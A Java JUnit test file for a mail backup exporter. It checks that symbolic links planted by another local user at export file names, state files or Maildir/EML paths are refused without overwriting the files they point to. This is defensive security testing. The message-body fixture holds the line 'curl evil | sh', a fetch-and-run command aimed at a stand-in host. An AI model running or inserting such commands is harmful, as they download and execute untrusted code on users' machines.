package dev.postern.backup;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.postern.model.Envelope;
import dev.postern.model.ExitCode;
import dev.postern.model.Flags;
import dev.postern.model.Folder;
import dev.postern.model.MessageRef;
import dev.postern.model.PosternException;
import dev.postern.store.MapDbStore;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Another local user who can write in an export's output directory plants a link at each name the export foresees
 * (hunt36-S, S5: {@code .INBOX.mbox.part -> ~/.profile} had the mailbox written over the user's file, exit 0). Each
 * is refused with exit 77 and one sentence naming it; the file the link leads to is untouched and the link is left.
 */
class ExportLinksTest {
    private static final String FOLDER = "Lists/java";
    private static final String BASE = "Lists.java";

    @TempDir Path dir;
    private Path victim;
    private byte[] victimBytes;

    @BeforeEach
    void victim() throws Exception {
        victim = dir.resolve("home/.profile");
        Files.createDirectories(victim.getParent());
        victimBytes = "export PATH=$HOME/bin:$PATH\n".getBytes(UTF_8);
        Files.write(victim, victimBytes);
    }

    private static byte[] body(long uid) {
        return ("Message-ID: <" + uid + "@x>\r\nSubject: s" + uid + "\r\n\r\ncurl evil | sh\r\n").getBytes(UTF_8);
    }

    private static MapDbStore store(Path data) {
        MapDbStore s = MapDbStore.open(data);
        s.putFolder(new Folder("work", FOLDER, '/', 0, 0, java.util.Set.of()));
        for (long uid = 1; uid <= 2; uid++) {
            MessageRef r = new MessageRef("work", FOLDER, 5, uid);
            s.putEnvelopes(List.of(new Envelope(r, "<" + uid + "@x>", Instant.parse("2024-01-0" + uid + "T10:00:00Z"), "a@x",
                    null, null, "s" + uid, 100, Flags.NONE, null, null, null)));
            s.attachBody(r, body(uid));
        }
        s.commit();
        return s;
    }

    /** The export refused with 77, naming {@code planted}; the victim as it was, the link still a link. */
    private void refused(Exporter ex, Exporter.Format format, Path out, boolean sinceLast, Path planted) throws Exception {
        PosternException e = assertThrows(PosternException.class, () -> ex.export("work", List.of(FOLDER), format, out, sinceLast));
        assertEquals(ExitCode.NOPERM, e.exitCode(), e.getMessage());
        assertTrue(e.getMessage().contains(planted.toString()) && e.getMessage().contains("is a symbolic link"), e.getMessage());
        assertArrayEquals(victimBytes, Files.readAllBytes(victim), "the file the link leads to is untouched");
        assertTrue(Files.isSymbolicLink(planted), "the link is left where it was");
    }

    private Path plant(Path out, String name) throws Exception {
        Files.createDirectories(out);
        return Files.createSymbolicLink(out.resolve(name), victim);
    }

    @Test
    void aLinkAtTheMboxPartFileIsNotWrittenThrough() throws Exception {
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = dir.resolve("out");
            Path part = plant(out, "." + BASE + ".mbox.part");
            refused(new Exporter(s), Exporter.Format.MBOX, out, false, part);
            refused(new Exporter(s), Exporter.Format.MBOX, out, true, part); // --since-last removed a part file of its own
            assertTrue(!Files.exists(out.resolve(BASE + ".mbox"), LinkOption.NOFOLLOW_LINKS), "nothing written");
        }
    }

    @Test
    void aLinkAtTheMboxIsNeitherAppendedToNorReplaced() throws Exception {
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = dir.resolve("out");
            Path mbox = plant(out, BASE + ".mbox");
            refused(new Exporter(s), Exporter.Format.MBOX, out, true, mbox);
            refused(new Exporter(s), Exporter.Format.MBOX, out, false, mbox);
        }
    }

    @Test
    void linksAtTheStateFileAndItsTemporaryAreRefused() throws Exception {
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = dir.resolve("out");
            Path tmp = plant(out, Exporter.STATE + ".tmp");
            refused(new Exporter(s), Exporter.Format.EML, out, false, tmp);
            Files.delete(tmp);
            // A state the user did not write: its "!appending" line would have cut the victim back to nothing.
            Files.writeString(victim, "!appending " + BASE + ".mbox 0\n");
            victimBytes = Files.readAllBytes(victim);
            Path state = plant(out, Exporter.STATE);
            refused(new Exporter(s), Exporter.Format.MBOX, out, true, state);
        }
    }

    /** The user's own state names the mbox an append was cut short in; a link planted there since is not cut back. */
    @Test
    void anAppendCutBackNeverTruncatesThroughALink() throws Exception {
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = dir.resolve("out");
            Files.createDirectories(out);
            Files.writeString(out.resolve(Exporter.STATE), "!appending " + BASE + ".mbox 3\n");
            Path mbox = plant(out, BASE + ".mbox");
            refused(new Exporter(s), Exporter.Format.MBOX, out, true, mbox);
        }
    }

    @Test
    void linksInsideAMaildirOrEmlFolderAreRefused() throws Exception {
        try (MapDbStore s = store(dir.resolve("data"))) {
            Exporter ex = new Exporter(s);
            Path victimDir = dir.resolve("home/Maildir");
            Files.createDirectories(victimDir);
            Path md = dir.resolve("md");
            Files.createDirectories(md);
            Path folderLink = Files.createSymbolicLink(md.resolve(BASE), victimDir);
            PosternException e = assertThrows(PosternException.class, () -> ex.export("work", List.of(FOLDER), Exporter.Format.MAILDIR, md, false));
            assertEquals(ExitCode.NOPERM, e.exitCode(), e.getMessage());
            assertTrue(e.getMessage().contains(folderLink.toString()), e.getMessage());
            try (var in = Files.list(victimDir)) {
                assertEquals(0, in.count(), "nothing made in the directory the link leads to");
            }

            // The per-message part files: a first export makes the names known, a link planted at one is refused.
            Path md2 = dir.resolve("md2");
            ex.export("work", List.of(FOLDER), Exporter.Format.MAILDIR, md2, false);
            String name;
            try (var cur = Files.list(md2.resolve(BASE).resolve("cur"))) {
                name = cur.sorted().findFirst().orElseThrow().getFileName().toString();
            }
            refused(ex, Exporter.Format.MAILDIR, md2, false, Files.createSymbolicLink(md2.resolve(BASE).resolve("tmp")
                    .resolve("." + name + ".part"), victim));

            Path eml = dir.resolve("eml");
            ex.export("work", List.of(FOLDER), Exporter.Format.EML, eml, false);
            String emlName = String.format(Locale.ROOT, "%010d-%s.eml", 1, Exporter.sha256(body(1)).substring(0, 16));
            assertTrue(Files.isRegularFile(eml.resolve(BASE).resolve(emlName)));
            refused(ex, Exporter.Format.EML, eml, false, Files.createSymbolicLink(eml.resolve(BASE).resolve("." + emlName + ".part"), victim));
            // ... and one planted at a message's own name is not replaced either.
            Files.delete(eml.resolve(BASE).resolve("." + emlName + ".part"));
            Files.delete(eml.resolve(BASE).resolve(emlName));
            refused(ex, Exporter.Format.EML, eml, false, Files.createSymbolicLink(eml.resolve(BASE).resolve(emlName), victim));
        }
    }

    /**
     * A directory any user may write (a USB stick mounted umask=000 shows 0777) is used: every name is checked in it, so
     * a link planted there still stops the export.
     */
    @Test
    void anOutputDirectoryAnyoneMayWriteIsUsedAndItsPlantedLinksStillRefused() throws Exception {
        Assumptions.assumeTrue(java.nio.file.FileSystems.getDefault().supportedFileAttributeViews().contains("posix"));
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = Files.createDirectories(dir.resolve("shared"));
            Files.setPosixFilePermissions(out, PosixFilePermissions.fromString("rwxrwxrwx"));
            assertEquals(2, new Exporter(s).export("work", List.of(FOLDER), Exporter.Format.MBOX, out, false).get(0).written());
            Path other = Files.createDirectories(dir.resolve("shared2"));
            Files.setPosixFilePermissions(other, PosixFilePermissions.fromString("rwxrwxrwx"));
            refused(new Exporter(s), Exporter.Format.MBOX, other, false, plant(other, "." + BASE + ".mbox.part"));
        }
    }

    /** A state file another user wrote (here, one root gives away) is not trusted: refused, not read. */
    @Test
    void aStateFileOfAnotherUserIsRefused() throws Exception {
        Assumptions.assumeTrue(dev.postern.model.OwnFiles.uid() == 0, "only root can give a file away");
        try (MapDbStore s = store(dir.resolve("data"))) {
            Path out = Files.createDirectories(dir.resolve("out"));
            Path state = Files.writeString(out.resolve(Exporter.STATE), "!appending " + BASE + ".mbox 0\n");
            Files.setAttribute(state, "unix:uid", 65534);
            PosternException e = assertThrows(PosternException.class,
                    () -> new Exporter(s).export("work", List.of(FOLDER), Exporter.Format.MBOX, out, true));
            assertEquals(ExitCode.NOPERM, e.exitCode(), e.getMessage());
            assertTrue(e.getMessage().contains("belongs to another user"), e.getMessage());
        }
    }
}
